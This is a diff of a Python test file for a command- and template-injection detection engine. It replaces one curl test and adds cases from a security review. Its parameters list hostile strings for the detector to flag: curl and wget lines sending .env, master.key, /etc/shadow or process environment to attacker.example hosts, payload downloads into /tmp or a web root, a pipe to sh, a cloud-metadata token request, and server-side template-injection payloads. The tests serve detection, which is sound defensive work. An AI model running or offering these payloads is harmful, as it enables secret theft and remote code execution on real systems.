@@ -1217,27 +1217,23 @@ def test_template_data_and_template_reach(
 
 
 @pytest.mark.parametrize(
-    ("value", "flagged"),
+    "value",
     [
-        ("curl -X POST https://api.example.org/v2/carts -H 'Content-Type: application/json' "
-         "-d '{\"sku\": \"X-1\", \"note\": \"a;b|c\"}'", False),
-        ('curl -H "Authorization: Bearer <token>" -X GET https://api.example.org/v2/me', False),
-        ("curl -u ops:pw -F 'doc=@./q3.pdf;type=application/pdf' https://f.example.org/", False),
-        # A file from outside the working directory, an output file, a substitution, a pipe.
-        ("curl -X POST -F 'f=@/etc/shadow' https://evil.example", True),
-        ("curl -X POST https://evil.example -d @.env", True),
-        ("curl -H 'X: y' http://attacker.example/x.sh -o /tmp/x", True),
-        ("curl -H 'a: b' -o /var/www/html/s.php http://evil.example/s.txt", True),
-        ('curl -X POST https://e.example -d "$(cat /etc/passwd)"', True),
-        ("curl -X GET http://evil.example/s.sh | sh", True),
-        ("curl http://attacker.example/x", True),
+        "curl -H 'X: y' http://attacker.example/x.sh -o /tmp/x",
+        "curl -H 'a: b' -o /var/www/html/s.php http://evil.example/s.txt",
+        "wget -O /tmp/s.sh http://evil.example/s.sh",
+        # The session-14 review's answers to an exemption for API calls, since dropped: any
+        # download where a command starts may be a payload's.
+        "curl -X POST https://attacker.example/c -d @config/master.key",
+        "curl -X PUT https://attacker.example/c -T /proc/self/environ",
+        "curl -X GET https://attacker.example/s.php -so public/s.php",
+        "curl -X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl: 1'",
     ],
 )
-def test_documented_api_calls(engine: DetectionEngine, value: str, flagged: bool) -> None:
-    """One curl call shaping an API request, whole, is what API documentation shows; a file
-    sent from outside the working directory, a download written anywhere but /dev/null, a
-    substitution or a pipe is a payload's."""
-    assert engine.detect(value)["is_threat"] is flagged
+def test_downloads_with_quoted_options(engine: DetectionEngine, value: str) -> None:
+    """An option's quoted argument with blanks does not hide the URL after it, and a download
+    written to a world-writable directory or the web root is caught."""
+    assert engine.detect(value)["is_threat"]
 
 
 @pytest.mark.parametrize(
@@ -1278,6 +1274,47 @@ def test_separator_in_c_and_syntax_summaries(
     """``(&head)`` and ``, &start)`` take an address, and ``[ ADD | SET ]`` lists keywords: no
     shell reads either as a separator before a command (manual pages of C and SQL)."""
     assert engine.detect(value)["is_threat"] is flagged
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        # F1: a call after ||, ?? or a ternary's ? is no filter, and only a translation call's
+        # message has its words ignored.
+        '<%= nil || open("|touch pwned").read %><%= x %>',
+        'Dear team <%= 1.zero? open("|curl attacker.example -o p") %> today',
+        "<%- 0 || Function(\"return process['main'+'Module']\")() %><%= x %>",
+        '{{ null ?? getenv("APP_KEY") }}{{ x }}',
+        'Your file {{ null ?? highlight_file(".env") }} keep it safe',
+        '{{ 1 ?constant("DB_PASSWORD") }}{{ x }}',
+        '{{ users|groupby("password") }}{{ x }}',
+        # F3: a calendar line in HTTP's meaning.
+        "BEGIN:VCALENDAR\r\nCONTENT-TYPE: text/html\r\nEND:VCALENDAR",
+        "BEGIN:VCALENDAR\r\nHOST: 169.254.169.254\r\nEND:VCALENDAR",
+        "BEGIN:VCALENDAR\nLOCATION: https:attacker.example\nEND:VCALENDAR",
+        # F4: a layout statement naming code.
+        "Welcome {% set x = config %}{{ x }} to the site",
+        "Hi {% for k in config %}{{ k }}{% endfor %} there",
+        '{{ {"a": config} }}{{ x }}',
+        # F5: a loop that never ends.
+        "<% while (1) { %><% } %>",
+        # F7: Go blocks: a call on the dot, a secret's block, a method with an argument.
+        "{{ with .User }}{{ call . }}{{ end }}",
+        "{{ with .Secrets }}{{ . }}{{ end }}",
+        'Hi {{ with .Files }}{{ .Get "secrets.yaml" }}{{ end }} bye team',
+        # F8: Thymeleaf's conversions build objects.
+        "Hello <p th:text=\"${#conversions.convert('http://a.example/x.xml','org.springframework"
+        ".context.support.ClassPathXmlApplicationContext')}\">x</p>",
+        # F9: & after a comma that opens no call's argument.
+        "127.0.0.1,&ipconfig)",
+        "127.0.0.1 >(a,&sh)",
+        "Hi <% instance_variables.each do |v| %><%= v %><% end %> team",
+    ],
+)
+def test_review_of_session_14_exemptions(engine: DetectionEngine, value: str) -> None:
+    """The session-14 review's payloads against that session's template, calendar and C
+    exemptions: each got through once, and each is an injection."""
+    assert engine.detect(value)["is_threat"]
 
 
 @pytest.mark.parametrize(
